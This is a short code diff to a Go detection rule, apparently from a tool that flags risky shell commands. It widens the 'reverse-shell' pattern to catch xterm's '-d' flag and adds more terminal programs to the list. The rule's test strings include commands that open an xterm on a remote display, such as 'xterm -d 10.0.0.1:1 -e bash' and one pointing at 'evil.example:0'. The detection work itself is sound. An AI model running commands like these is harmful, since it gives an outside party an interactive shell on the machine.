@@ -94,8 +94,8 @@ var controlRules = []Rule{
 	{
 		ID: "reverse-shell", Says: "reverse-shell/opens-a-terminal-of-this-machine",
 		Risk: effect.Critical, Dimension: effect.Control, Technique: "T1021", Programs: terminals,
-		Words:    `\s--?display[= ]+\w[^\s:/]*:\d`,
-		Match:    []string{"xterm -display 10.0.0.1:1", "xterm -bg black -display evil.example:0"},
+		Words:    `\s(--?display|-d)[= ]+\w[^\s:/]*:\d`,
+		Match:    []string{"xterm -display 10.0.0.1:1", "xterm -bg black -display evil.example:0", "xterm -d 10.0.0.1:1 -e bash"},
 		NotMatch: []string{"xterm -display :0", "xterm -e top"},
 	},
 	{
@@ -139,4 +139,4 @@ var controlRules = []Rule{
 }
 
 // terminals show a shell in a window.
-const terminals = "xterm rxvt urxvt gnome-terminal konsole xfce4-terminal lxterminal aterm eterm st alacritty kitty mate-terminal terminator"
+const terminals = "xterm uxterm x-terminal-emulator tilix foot sakura terminology wezterm rxvt urxvt gnome-terminal konsole xfce4-terminal lxterminal aterm eterm st alacritty kitty mate-terminal terminator"
